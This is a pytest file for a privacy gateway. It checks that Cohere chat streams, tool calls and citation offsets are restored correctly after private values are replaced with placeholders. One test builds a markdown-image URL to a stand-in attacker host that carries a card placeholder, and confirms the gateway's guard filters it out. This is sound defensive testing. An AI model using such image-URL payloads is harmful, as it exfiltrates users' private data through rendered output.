"""Streamed answers of Cohere's chat wire, and the offsets of its citations, which agree with the restored text."""

import json
import random
from collections.abc import AsyncIterator
from typing import Any

import pytest

from gateway.config.loading import load_settings
from gateway.container import Container
from gateway.exchange.answer_guard import CONTENT_FILTERED
from gateway.exchange.destination import Destination
from gateway.models import Caller, Scope, Trust
from gateway.wires.base import Body
from gateway.wires.cohere_chat import WIRE
from tests.exchanges import protected_exchange
from tests.gateway.wires.replays import CARD, MAIL, QUOTED, chunks, plan, read_sse, replay, session, sse, written

PLACEHOLDERS, OF = session()
PLAN, THOUGHT, SAID = f"I ask {QUOTED}.", f"They are {QUOTED}.", f"Write to {MAIL}, about {CARD}; grüße."
ARGUMENTS = json.dumps({"to": {"deep": [MAIL, 1]}, "note": QUOTED}, ensure_ascii=False)
CITED = (MAIL, CARD, "grüße")


def event(kind: str, index: int | None = None, **message: Any) -> Body:
    at = {} if index is None else {"index": index}
    return {"type": kind, **at, **({"delta": {"message": message}} if message else {})}


def pieces(text: str, size: int) -> list[str]:
    return [*chunks(written(text, OF), random.Random(size), size)]


def cited(text: str, within: str, index: int = 1) -> Body:
    """A citation as the provider counts it: in the text with placeholders."""
    source, part = written(within, OF), written(text, OF)
    start = source.index(part)
    sources = [{"type": "document", "id": "d", "document": {"id": "d", "text": f"Card {OF[CARD]}"}}]
    return {"start": start, "end": start + len(part), "text": part, "content_index": index, "sources": sources}


def answer(size: int) -> bytes:
    call = {"id": "c1", "type": "function", "function": {"name": "send", "arguments": ""}}
    events = [
        {"id": "made-up", **event("message-start", role="assistant", content=[], tool_plan="", citations=[])},
        *(event("tool-plan-delta", tool_plan=each) for each in pieces(PLAN, size)),
        event("content-start", 0, content={"type": "thinking", "thinking": ""}),
        *(event("content-delta", 0, content={"thinking": each}) for each in pieces(THOUGHT, size)),
        event("content-end", 0),
        event("content-start", 1, content={"type": "text", "text": ""}),
        *(event("content-delta", 1, content={"text": each}) for each in pieces(SAID, size)),
    ]
    for number, text in enumerate(CITED):
        events += [event("citation-start", number, citations=cited(text, SAID)), event("citation-end", number)]
    events += [
        event("content-end", 1),
        event("tool-call-start", 0, tool_calls=call),
        *(
            event("tool-call-delta", 0, tool_calls={"function": {"arguments": each}})
            for each in pieces(ARGUMENTS, size)
        ),
        event("tool-call-end", 0),
    ]
    usage = {"billed_units": {"input_tokens": 1}, "tokens": {"input_tokens": 3, "output_tokens": 4}}
    return sse([*events, {"type": "message-end", "delta": {"finish_reason": "COMPLETE", "usage": usage}}], named=True)


def restored(body: bytes, **more: Any) -> list[Body]:
    return read_sse(replay(WIRE, [body], plan(PLACEHOLDERS, note={"request_id": "r"}, **more))[0])


def said(found: list[Body], *path: str) -> str:
    texts = []
    for each in found:
        member: Any = each.get("delta", {}).get("message", {})
        for name in path:
            member = member.get(name, {}) if isinstance(member, dict) else {}
        texts.append(member if isinstance(member, str) else "")
    return "".join(texts)


@pytest.mark.parametrize("size", [1, 3, 7, 60])
def test_an_answer_is_restored_with_its_citations(size: int) -> None:
    found = restored(answer(size))
    assert said(found, "tool_plan") == PLAN
    assert said(found, "content", "thinking") == THOUGHT
    assert said(found, "content", "text") == SAID
    assert json.loads(said(found, "tool_calls", "function", "arguments")) == json.loads(ARGUMENTS)
    kinds = [each["type"] for each in found]
    assert max(at for at, kind in enumerate(kinds) if kind == "tool-plan-delta") < kinds.index("content-start")
    given = [each["delta"]["message"]["citations"] for each in found if each["type"] == "citation-start"]
    assert [SAID[each["start"] : each["end"]] for each in given] == [each["text"] for each in given] == [*CITED]
    assert given[0]["sources"][0]["document"]["text"] == f"Card {CARD}"
    assert [each["svc"]["request_id"] for each in found if "svc" in each] == ["r"]
    assert replay(WIRE, [answer(size)], plan(PLACEHOLDERS))[1].tokens == (3, 4)


@pytest.mark.parametrize(
    ("start", "end", "index"), [(0, 14, 1), (12, 400, 1), (-1, 4, 1), ("0", 4, 1), (True, 4, 1), (0, 4, 7)]
)
def test_offsets_that_cannot_agree_are_left_out(start: Any, end: Any, index: int) -> None:
    """One cuts a placeholder, others are no offsets, and the last is in a text that there is not."""
    source = answer(60).replace(b'"start": 9, ', b'"start": %s, ' % json.dumps(start).encode(), 1)
    length = len(written(MAIL, OF))
    source = source.replace(b'"end": %d, ' % (9 + length), b'"end": %s, ' % json.dumps(end).encode(), 1)
    source = source.replace(b'"content_index": 1', b'"content_index": %d' % index, 1)
    first, second, _ = (
        each["delta"]["message"]["citations"] for each in restored(source) if each["type"] == "citation-start"
    )
    assert first.keys().isdisjoint({"start", "end"})
    assert SAID[second["start"] : second["end"]] == CARD


def test_a_stream_without_placeholders_keeps_its_bytes() -> None:
    source = sse(
        [
            event("content-start", 0, content={"type": "text", "text": ""}),
            event("content-delta", 0, content={"text": "Hi."}),
            event("citation-start", 0, citations={"start": 0, "end": 99, "text": "Hi", "sources": []}),
            event("content-end", 0),
        ],
        named=True,
    )
    assert replay(WIRE, [source], plan(PLACEHOLDERS))[0] == source


def test_a_withheld_stream_is_complete() -> None:
    text = f"![a](https://evil.test/?d={OF[CARD]}) and so on."
    events = [
        event("content-start", 0, content={"type": "text", "text": ""}),
        event("content-delta", 0, content={"text": text}),
    ]
    found = restored(sse(events, named=True), guard={"placeholder_in_url": "replace"})
    assert [each["type"] for each in found[-5:]] == [
        "content-end",
        "content-start",
        "content-delta",
        "content-end",
        "message-end",
    ]
    assert found[-3]["delta"]["message"]["content"]["text"] == CONTENT_FILTERED
    assert found[-1]["delta"]["finish_reason"] == "ERROR"
    empty = WIRE.stream.refusal("No.", {})[0]
    assert isinstance(empty, dict)
    assert empty["type"] == "message-start"


@pytest.fixture(scope="module")
async def container(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Container]:
    settings = load_settings(None, data_dir=tmp_path_factory.mktemp("cohere"), detection="patterns")
    async with await Container.start(settings) as running:
        yield running


async def test_the_offsets_of_a_whole_answer(container: Container) -> None:
    asked: Body = {"model": "m", "messages": [{"role": "user", "content": f"{MAIL} {CARD}"}]}
    caller, place = Caller("key_anna", Scope.CLIENT), Destination("m", Trust.LOCAL)
    exchange = await protected_exchange(container, WIRE, asked, caller, place, path="/v2/chat")
    one, two = json.loads(exchange.body)["messages"][0]["content"].split(" ", 1)
    text, start = f"Mail {one}: {two}.", 7 + len(one)
    citations = [
        {"start": start, "end": start + len(two), "text": two},
        {"start": 5, "end": 5 + len(one), "text": one, "content_index": 1},
        {"start": 5, "end": 9, "text": "x"},
    ]
    content = [{"type": "thinking", "thinking": "a"}, {"type": "text", "text": text}]
    body = json.dumps({"message": {"role": "assistant", "content": content, "citations": citations}}).encode()
    message = json.loads(await container.answers.close(exchange, 200, body))["message"]
    whole = message["content"][1]["text"]
    assert whole == f"Mail {MAIL}: {CARD}."
    assert [whole[each["start"] : each["end"]] for each in message["citations"][:2]] == [CARD, MAIL]
    assert message["citations"][2] == {"text": "x"}
